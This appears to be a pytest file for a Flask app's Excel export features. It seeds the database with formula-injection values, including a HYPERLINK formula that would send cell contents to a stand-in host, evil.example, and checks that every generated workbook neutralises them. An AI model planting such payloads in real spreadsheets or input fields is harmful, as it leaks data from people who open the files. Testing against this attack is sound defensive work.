"""No workbook the app writes holds a formula (issue 13, point 4): with a unit
named ``=HYPERLINK(...)`` and records whose text is ``=1+2``, every list's
template, export and error file, the KPI report, the assessment export and a
camp's sign-in sheet are opened with openpyxl and no cell is a formula or
text a spreadsheet would run (``core.excel.cells.neutralise`` is the one
function that writes them all)."""

from __future__ import annotations

import datetime
import io
import uuid

import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from core.tenancy.units import Unit, compute_path

HOSTILE_UNIT = '=HYPERLINK("http://evil.example/?x="&A1,"顺德区")'
HOSTILE = ["=1+2", "+1+2", "-1+2", "@SUM(A1)", "\t=1+2", "\r=1+2", "\n=1+2"]
YEAR = 2017
DANGEROUS = ("=", "+", "-", "@", "\t", "\r", "\n")


def formulas(data: bytes) -> list[str]:
    wb = load_workbook(io.BytesIO(data))
    bad = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if cell.data_type == "f" or (isinstance(cell.value, str) and cell.value.startswith(DANGEROUS)):
                    bad.append(f"{ws.title}!{cell.coordinate}={cell.value!r}")
    return bad


@pytest.fixture(scope="module")
def hostile(app):
    """A city named like a formula, with records whose texts are formulas."""
    from core.kpi.assessment import AssessmentIndicator
    from core.kpi.engine import KpiTarget
    from plugins.cultivation.models import YouthOrg
    from tests.memo_plugin.models import MemoNote
    from plugins.training.models import Camp, Enrolment, Lecturer, Trainee

    tag = uuid.uuid4().hex[:5].upper()
    with app.app_context():
        s = app.appbuilder.session
        province = s.execute(select(Unit).where(Unit.code == "440000")).scalar_one()
        path, depth = compute_path(province, f"HX{tag}")
        unit = Unit(code=f"HX{tag}", name=HOSTILE_UNIT, level="city", tier="city", prd=True, undergraduate=False,
                    parent=province, path=path, depth=depth)
        s.add(unit)
        s.flush()
        for i, text in enumerate(HOSTILE):
            s.add(MemoNote(unit_id=unit.id, title=text, body=text, noted_on=datetime.date(YEAR, 3, 1 + i)))
        org = YouthOrg(name="=1+2" + tag, unit=unit, category="interest", service_field="other",
                       reg_status="unregistered", note="@SUM(A1)", contact_name="-1+2")
        camp = Camp(unit=unit, title="=1+2" + tag, session_no=1, starts_on=datetime.date(YEAR, 4, 1),
                    ends_on=datetime.date(YEAR, 4, 2), place="+1+2", capacity=10, status="open", note="=1+2")
        s.add_all([org, camp, Lecturer(unit=unit, name="=1+2", institution="@x" + tag, expertise="-x")])
        for text in HOSTILE[:3]:
            trainee = Trainee(name=text, phone="13800000000", gender="male")
            s.add(Enrolment(camp=camp, youth_org=org, trainee=trainee, name=text, phone="13800000000", gender="male",
                            role=text, note=text))
        s.add(KpiTarget(plan_year=YEAR, check_key="memo_notes", tier="city", threshold=4,
                        due=datetime.date(YEAR, 12, 31), period="year"))
        s.add(AssessmentIndicator(plan_year=YEAR, key="notes", label="记事", check_key="memo_notes", weight=100,
                                  method="ratio", target=None, position=0))
        s.commit()
        return {"unit": unit.code, "camp": camp.id}


def test_every_workbook_the_app_writes_is_free_of_formulas(app, hostile, as_user):
    from core.excel.service import importables
    from core.excel.engine import ImportReport
    from core.excel.declarations import Limits
    from core.excel.workbooks import write_error_file

    admin = as_user("admin")
    books: dict[str, bytes] = {}
    lists = admin.get("/api/v1/import/").json()["result"]
    assert {"memonote", "enrolment"} <= {x["name"] for x in lists}
    for lst in lists:
        name = lst["name"]
        r = admin.get(f"/api/v1/import/{name}/template")
        assert r.status_code == 200, (name, r.text[:200])
        books[f"template {name}"] = r.content
        r = admin.get(f"/api/v1/export/{name}")
        assert r.status_code == 200, (name, r.text[:200])
        books[f"export {name}"] = r.content
    # error files: every list's headers and a row of formulas sent back with the errors
    with app.test_request_context():
        for _plugin, imp in importables().values():
            head = ",".join([HOSTILE_UNIT.replace('"', '""').join('""')] + [str(c.header) for c in imp.columns])
            row = ",".join(HOSTILE[i % 4] for i in range(len(imp.columns) + 1))
            data = (head + "\n" + row + "\n").encode("utf-8")
            report = ImportReport(imp.name, "x.csv", "update")
            report.error(2, str(imp.columns[0].header), "=1+2")
            books[f"errors {imp.name}"] = write_error_file(imp, "x.csv", data, report, Limits())
    # the KPI report, the assessment export, the sign-in sheet
    r = admin.get("/api/v1/kpi/report/xlsx", params={"year": YEAR, "unit": "440000"})
    assert r.status_code == 200
    books["kpi report"] = r.content
    assert admin.post("/api/v1/assessment/compute", json={"year": YEAR}).status_code == 200
    r = admin.post("/api/v1/assessment/adjustment", json={"year": YEAR, "unit": hostile["unit"], "points": 1,
                                                          "reason": "=1+2"})
    assert r.status_code in (200, 201), r.text
    r = admin.get("/api/v1/assessment/export", params={"year": YEAR})
    assert r.status_code == 200
    books["assessment"] = r.content
    r = admin.get(f"/api/v1/trainingcamp/{hostile['camp']}/signin-sheet")
    assert r.status_code == 200
    books["sign-in sheet"] = r.content

    found = {name: formulas(data) for name, data in books.items()}
    assert not any(found.values()), {k: v[:5] for k, v in found.items() if v}
    # and the hostile values are there, neutralised
    assert "'" + HOSTILE_UNIT in str([c.value for ws in load_workbook(io.BytesIO(books["kpi report"])).worksheets
                                      for row in ws.iter_rows() for c in row])
    signin = [c.value for row in load_workbook(io.BytesIO(books["sign-in sheet"])).active.iter_rows() for c in row]
    assert "'=1+2" in signin
